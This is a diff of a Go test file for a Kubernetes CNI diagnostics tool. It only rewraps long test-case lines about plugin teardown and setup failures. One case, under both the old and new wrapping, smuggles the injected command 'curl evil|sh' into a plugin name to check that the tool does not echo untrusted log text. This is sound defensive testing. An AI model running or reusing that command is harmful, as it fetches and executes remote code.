@@ -77,10 +77,12 @@ func TestNetwork(t *testing.T) {
 		pod  *evidence.Pod
 		want string
 	}{
-		"a plugin fails":           {tornDown(refused, nothing), "CNIDelFailing: the pod's network cannot be torn down: CNI plugin calico fails (CNI DEL): \"dial unix /run/x.sock: connect: connection refused\""},
+		"a plugin fails": {tornDown(refused, nothing), "CNIDelFailing: the pod's network cannot be torn down: CNI plugin " +
+			"calico fails (CNI DEL): \"dial unix /run/x.sock: connect: connection refused\""},
 		"its program is not there": {tornDown(`plugin type=\"portmap\" failed (delete): failed to find plugin \"portmap\" in path [/opt/cni/bin]`, nothing), "CNIDelFailing: the program of CNI plugin portmap is missing"},
 		"its program could not be started": {tornDown(`plugin type=\"bridge\" failed (delete): netplugin failed with no error message: fork/exec /opt/cni/bin/bridge: resource temporarily unavailable`, nothing),
-			"CNIDelFailing: containerd could not start CNI plugin bridge (CNI DEL): \"netplugin failed with no error message: fork/exec /opt/cni/bin/bridge: resource temporarily unavailable\"\n"},
+			"CNIDelFailing: containerd could not start CNI plugin bridge (CNI DEL): \"netplugin failed with no error message: fork/exec " +
+				"/opt/cni/bin/bridge: resource temporarily unavailable\"\n"},
 		"no file was left to start it with": {tornDown(`plugin type=\"calico\" failed (delete): netplugin failed with no error message: pipe2: too many open files`, func(p *evidence.Pod) {
 			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p"}}
 		}), "CNIDelFailing: containerd could not start CNI plugin calico (CNI DEL): \"netplugin failed with no error message: pipe2: too many open files\"\n"},
@@ -116,20 +118,27 @@ func TestNetwork(t *testing.T) {
 		}), "CNIDelFailing: CNI plugin calico"},
 		"once":                {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Count = 1 })), ""},
 		"twice at one moment": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
-		"long ago":            {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First, f.Last = f.First.Add(-20*time.Second), f.Last.Add(-time.Hour) })), ""},
+		"long ago": {tornDown(refused, failure(func(f *evidence.KillFailure) {
+			f.First, f.Last = f.First.Add(-20*time.Second),
+				f.Last.Add(-time.Hour)
+		})), ""},
 		"before the deletion": {tornDown(refused, func(p *evidence.Pod) {
 			p.KillFailures[0].First, p.KillFailures[0].Last = p.DeletionRequested.Add(-time.Hour), p.DeletionRequested.Add(10*time.Second)
 		}), ""},
-		"before the deletion, and since": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })), "CNIDelFailing: calico fails"},
-		"its own request took too long":  {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection refused", "Get https://10.96.0.1: context deadline exceeded"), nothing), "CNIDelFailing: context deadline exceeded"},
-		"it was not started in time":     {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection refused", "netplugin failed with no error message: context deadline exceeded"), nothing), ""},
-		"in the future":                  {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
-		"of a sandbox that runs":         {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
-		"words for a plugin's name":      {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be torn down: a CNI plugin fails (CNI DEL): \"dial"},
-		"of another sandbox":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
-		"of another pod":                 {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
-		"no answer":                      {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
-		"Events could not be listed":     {tornDown(refused, func(p *evidence.Pod) { p.SetStopFailures(nil, errors.New("forbidden")) }), ""},
+		"before the deletion, and since": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })),
+			"CNIDelFailing: calico fails"},
+		"its own request took too long": {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection "+
+			"refused", "Get https://10.96.0.1: context deadline exceeded"), nothing), "CNIDelFailing: context deadline exceeded"},
+		"it was not started in time": {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection "+
+			"refused", "netplugin failed with no error message: context deadline exceeded"), nothing), ""},
+		"in the future":          {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
+		"of a sandbox that runs": {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
+		"words for a plugin's name": {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl "+
+			"evil|sh"), nothing), "CNIDelFailing: cannot be torn down: a CNI plugin fails (CNI DEL): \"dial"},
+		"of another sandbox":         {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
+		"of another pod":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
+		"no answer":                  {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
+		"Events could not be listed": {tornDown(refused, func(p *evidence.Pod) { p.SetStopFailures(nil, errors.New("forbidden")) }), ""},
 		"a container lives": {tornDown(refused, func(p *evidence.Pod) {
 			p.Tasks = []evidence.Task{task(100, 50, "app", evidence.Sleeping, "epoll_wait")}
 		}), ""},
@@ -137,13 +146,16 @@ func TestNetwork(t *testing.T) {
 		"a claim comes next":      {tornDown(refused, func(p *evidence.Pod) { p.ResourceClaims = 1; p.KillFailures[0].Last = p.Time.Add(-time.Minute) }), ""},
 		"inside the grace period": {tornDown(refused, func(p *evidence.Pod) { p.Deadline = p.Time.Add(time.Second) }), ""},
 
-		"no configuration":                             {tornDown(noConfig, down), "CNINotInitialized: containerd has no CNI configuration (\"cni plugin not initialized\")"},
+		"no configuration": {tornDown(noConfig, down), "CNINotInitialized: containerd has no CNI " +
+			"configuration (\"cni plugin not initialized\")"},
 		"it is back":                                   {tornDown(noConfig, nothing), ""},
 		"no configuration, containerd is quiet":        {tornDown(noConfig, func(p *evidence.Pod) { p.Node.Containerd.Network = "" }), ""},
 		"the network is not ready, and a plugin fails": {tornDown(refused, down), "CNIDelFailing: CNI plugin calico"},
 
-		"a plugin hangs":         {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }), "CNIDelHanging: CNI plugin calico (PID 300) has not returned from DEL"},
-		"it waits for its child": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }), "CNIDelHanging: The plugin waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
+		"a plugin hangs": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }),
+			"CNIDelHanging: CNI plugin calico (PID 300) has not returned from DEL"},
+		"it waits for its child": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }),
+			"CNIDelHanging: The plugin waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
 		"a plugin takes a while": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 59*time.Second) }), ""},
 		"a plugin on a starved node": {tornDown("", func(p *evidence.Pod) {
 			p.KillFailures = nil
@@ -175,14 +187,16 @@ func TestNetwork(t *testing.T) {
 			p.Plugins[0].State = evidence.Zombie
 		}), ""},
 
-		"a network is set up":                            {setUp(61*time.Second, nothing), "CNIAddHanging: CNI plugin calico (PID 300) has not returned from ADD"},
-		"the plugin that sets it up waits for its child": {setUp(61*time.Second, nothing), "CNIAddHanging: The plugin waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
+		"a network is set up": {setUp(61*time.Second, nothing), "CNIAddHanging: CNI plugin calico (PID 300) has not returned from ADD"},
+		"the plugin that sets it up waits for its child": {setUp(61*time.Second, nothing), "CNIAddHanging: The plugin waits for its " +
+			"child sleep (PID 301), which sleeps in clock_nanosleep"},
 		"the network of a second sandbox is set up": {setUp(61*time.Second, func(p *evidence.Pod) {
 			p.Phase = "Running"
 			p.Containers[0].Waiting, p.Containers[0].Exit = false, new(evidence.Exit)
 			p.Containers = append(p.Containers, evidence.Container{Name: "POD", Kind: evidence.Sandbox, ID: sandboxID, State: evidence.StateExited})
 		}), "CNIAddHanging: No program of the pod runs: its sandbox is being re-created"},
-		"of a pod that ran nothing is known": {setUp(61*time.Second, func(p *evidence.Pod) { p.Phase = "Running" }), "CNIAddHanging: No program of the pod runs: its sandbox is being re-created"},
+		"of a pod that ran nothing is known": {setUp(61*time.Second, func(p *evidence.Pod) { p.Phase = "Running" }), "CNIAddHanging: No " +
+			"program of the pod runs: its sandbox is being re-created"},
 		"the kubelet may not know of the deletion": {setUp(61*time.Second, func(p *evidence.Pod) {
 			p.Node.Ready = &evidence.NodeReady{Status: "Unknown", Reason: "NodeStatusUnknown"}
 			p.DeletionRequested = p.NetworkSetup[0].Probe.Started.Add(-time.Second)
@@ -191,20 +205,26 @@ func TestNetwork(t *testing.T) {
 			p.Node.Ready = &evidence.NodeReady{Status: "Unknown", Reason: "NodeStatusUnknown"}
 			p.DeletionRequested = p.NetworkSetup[0].Probe.Started.Add(time.Second)
 		}), "CNIAddHanging: calico (PID 300)"},
-		"setting it up takes a while":           {setUp(59*time.Second, nothing), ""},
-		"setting it up on a starved node":       {setUp(99*time.Second, func(p *evidence.Pod) { p.Node.Pressure.StarvedUntil = p.Time }), ""},
-		"setting it up hangs on a starved node": {setUp(101*time.Second, func(p *evidence.Pod) { p.Node.Pressure.StarvedUntil = p.Time }), "CNIAddHanging: calico (PID 300)"},
-		"a static pod's network is set up":      {setUp(time.Hour, func(p *evidence.Pod) { p.Mirror = true }), ""},
-		"it is being killed":                    {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].SharedPending = 1 << 8 }), ""},
-		"it was killed":                         {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].WasKilled = true }), ""},
-		"it exits":                              {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].Probe.Flags = evidence.PFExiting }), ""},
-		"its end was not waited for":            {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].State = evidence.Zombie }), ""},
-		"it has just begun":                     {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].Probe.Started = time.Time{} }), ""},
-		"it is set up inside the grace period":  {setUp(time.Hour, func(p *evidence.Pod) { p.Deadline = p.Time.Add(time.Second) }), ""},
-		"not all that set it up could be read":  {setUp(time.Hour, func(p *evidence.Pod) { p.Lack(evidence.Plugins, "denied") }), ""},
-		"all its containers have ended":         {setUp(time.Hour, func(p *evidence.Pod) { p.Phase = "Failed" }), ""},
+		"setting it up takes a while":     {setUp(59*time.Second, nothing), ""},
+		"setting it up on a starved node": {setUp(99*time.Second, func(p *evidence.Pod) { p.Node.Pressure.StarvedUntil = p.Time }), ""},
+		"setting it up hangs on a starved node": {setUp(101*time.Second, func(p *evidence.Pod) { p.Node.Pressure.StarvedUntil = p.Time }),
+			"CNIAddHanging: calico (PID 300)"},
+		"a static pod's network is set up":     {setUp(time.Hour, func(p *evidence.Pod) { p.Mirror = true }), ""},
+		"it is being killed":                   {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].SharedPending = 1 << 8 }), ""},
+		"it was killed":                        {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].WasKilled = true }), ""},
+		"it exits":                             {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].Probe.Flags = evidence.PFExiting }), ""},
+		"its end was not waited for":           {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].State = evidence.Zombie }), ""},
+		"it has just begun":                    {setUp(time.Hour, func(p *evidence.Pod) { p.NetworkSetup[0].Probe.Started = time.Time{} }), ""},
+		"it is set up inside the grace period": {setUp(time.Hour, func(p *evidence.Pod) { p.Deadline = p.Time.Add(time.Second) }), ""},
+		"not all that set it up could be read": {setUp(time.Hour, func(p *evidence.Pod) { p.Lack(evidence.Plugins, "denied") }), ""},
+		"all its containers have ended":        {setUp(time.Hour, func(p *evidence.Pod) { p.Phase = "Failed" }), ""},
 
-		"the plugins could not be read in full": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, time.Hour); p.Lack(evidence.Plugins, "denied") }), ""},
+		"the plugins could not be read in full": {tornDown("", func(p *evidence.Pod) {
+			p.KillFailures = nil
+			plugin(p,
+				time.Hour)
+			p.Lack(evidence.Plugins, "denied")
+		}), ""},
 	} {
 		t.Run(name, func(t *testing.T) {
 			got := ""
